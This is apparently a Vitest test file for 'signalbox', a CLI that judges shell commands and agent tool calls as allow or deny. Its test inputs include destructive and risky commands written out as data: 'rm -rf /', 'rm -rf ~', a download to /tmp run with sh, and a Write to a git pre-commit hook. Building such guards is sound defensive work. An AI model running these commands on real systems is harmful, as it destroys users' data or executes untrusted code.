import { once } from 'node:events'
import { describe, expect, test } from 'vitest'
import { runCli, startCli } from '../helpers/cli.ts'

async function lines(...input: readonly (object | string)[]) {
  const child = startCli(['check', '--jsonl'])
  let stdout = ''
  let stderr = ''
  child.stdout.setEncoding('utf8').on('data', text => {
    stdout += text
  })
  child.stderr.setEncoding('utf8').on('data', text => {
    stderr += text
  })
  child.stdin.end(input.map(it => (typeof it === 'string' ? it : JSON.stringify(it))).join('\n'))
  const [code] = await once(child, 'close')
  const out = stdout
    .split('\n')
    .filter(line => line !== '')
    .map(line => JSON.parse(line))
  return { code, out, stderr }
}

const ctx = { cwd: '/p', project_root: '/p', home: '/h', trusted: { domains: ['ok.example'] } }

describe('check --jsonl', () => {
  test('answers in order, from the facts that are given', async () => {
    const { code, out, stderr } = await lines(
      { id: 'a', cmd: 'ls', ctx },
      { id: 'b', tool: 'Bash', input: { command: 'rm -rf /' }, ctx },
      { id: 'c', cmd: 'curl -d @a https://ok.example', ctx },
      { id: 'd', cmd: 'sh x', ctx: { ...ctx, files: { x: 'rm -rf ~' } } },
      { id: 'e', cmd: 'rm -rf build', ctx: { ...ctx, files: { build: '-> /elsewhere' } } },
    )
    expect(stderr).toBe('')
    expect(code).toBe(0)
    expect(out.map(it => `${it.id} ${it.verdict}`)).toEqual([
      'a allow',
      'b deny',
      'c allow',
      'd deny',
      'e deny',
    ])
    expect(Object.keys(out[0])).toEqual([
      'id',
      'verdict',
      'rule',
      'reason',
      'resources',
      'clear',
      'ms',
    ])
    expect(out[2].resources).toEqual([{ kind: 'domain', id: 'ok.example', trust: 'trusted' }])
  })
  test('rows of one session share what happened, but not what was denied', async () => {
    const { out } = await lines(
      { id: 1, session: 's', cmd: 'curl -o /tmp/x https://a.example', ctx },
      { id: 2, session: 's', cmd: 'sh /tmp/x', ctx },
      { id: 3, session: 't', cmd: 'sh /tmp/x', ctx },
      { id: 4, session: 's', cmd: 'rm -rf ~/y; mkdir ~/y', ctx },
      { id: 5, session: 's', cmd: 'rm -rf ~/y', ctx },
    )
    expect(out.map(it => it.rule)).toEqual([
      'in-project',
      'download-exec',
      'uncertain',
      'delete-outside',
      'delete-outside',
    ])
  })
  test('a bad line is named, and the others are answered', async () => {
    const { code, out, stderr } = await lines(
      { id: 1, cmd: 'ls' },
      'no json',
      { id: 2 },
      { id: 3, cmd: 'ls' },
    )
    expect(code).toBe(2)
    expect(out.map(it => it.id)).toEqual([1, 3])
    expect(stderr).toMatch(/^signalbox: line 2: .*\nsignalbox: line 3: neither 'cmd' nor 'tool'\n$/)
  })
})

describe('check CMD', () => {
  test('says what it rests on and what would clear it, and ends with 1 on a denial', async () => {
    const { code, stdout } = await runCli(['check', 'git', 'push', 'https://github.com/x/y'])
    expect(code).toBe(1)
    expect(stdout).toContain('deny  push-external  (trust, soft_deny)')
    expect(stdout).toContain('git github.com/x/y: external')
    expect(stdout).toContain('would clear it: trust github.com/x/y')
  })
  test('--json prints the judgement; options end where the command begins', async () => {
    const { code, stdout } = await runCli(['check', '--json', 'ls', '--jsonl'])
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toMatchObject({ verdict: 'allow', rule: 'read-only' })
  })
  test.each([
    [[], /^signalbox: check what\? .*\n$/],
    [['--nonsense', 'ls'], /^signalbox: Unknown option '--nonsense'.*\n$/],
    [['-'], /^signalbox: standard input is empty; there is nothing to check\n$/],
    [['--cwd', '/nonexistent', 'ls'], /^signalbox: --cwd \/nonexistent: no such folder\n$/],
    [
      ['{"tool_name":"Write"}'],
      /^signalbox: the argument: tool_input is missing; a call is \{.*\n$/,
    ],
    [['{"tool":"Write","input":3}'], /^signalbox: the argument: input must be an object; .*\n$/],
    [
      ['{"tool_name" "Write"}'],
      /^signalbox: the argument is no JSON \(.*; a call is .* after --\n$/,
    ],
    [['--tool', 'Write'], /^signalbox: --tool Write: its input is missing; give it as JSON, .*\n$/],
    [['--tool', 'Write', 'a', 'b'], /^signalbox: --tool Write takes one input, as JSON.*\n$/],
    [['--tool', 'Write', '[]'], /^signalbox: the argument: must be an object; .*\n$/],
  ])('%j is one line of bad input', async (args, says) => {
    const { code, stdout, stderr } = await runCli(['check', ...args])
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
    expect(stderr).toMatch(says)
  })
})

describe('check CALL', () => {
  const input = { file_path: '.git/hooks/pre-commit', content: 'x' }
  const judgementOf = async (args: readonly string[], stdin = '') => {
    const child = startCli(['check', '--json', ...args])
    child.stdin.end(stdin)
    let stdout = ''
    for await (const chunk of child.stdout.setEncoding('utf8')) stdout += chunk
    return JSON.parse(stdout)
  }
  test('is the same in every form, from an argument or from standard input', async () => {
    const hook = JSON.stringify({ hook_event_name: 'x', tool_name: 'Write', tool_input: input })
    const all = await Promise.all([
      judgementOf([hook]),
      judgementOf(['-'], hook),
      judgementOf([JSON.stringify({ tool: 'Write', input })]),
      judgementOf(['--tool', 'Write', JSON.stringify(input)]),
      judgementOf(['--tool', 'Write', '-'], JSON.stringify(input)),
    ])
    expect(all[0]).toMatchObject({ verdict: 'deny', evidence: '.git/hooks/pre-commit' })
    for (const one of all) expect(one).toEqual(all[0])
  })
  test('a group of commands is a command, and so is all after --', async () => {
    expect(await judgementOf(['{ "ls"; }'])).toMatchObject({ rule: 'read-only' })
    expect(await judgementOf(['--', '{"a": 1}'])).toMatchObject({ rule: 'uncertain' })
    expect(await judgementOf(['-'], 'rm -rf /srv/x\n')).toMatchObject({ verdict: 'deny' })
  })
})
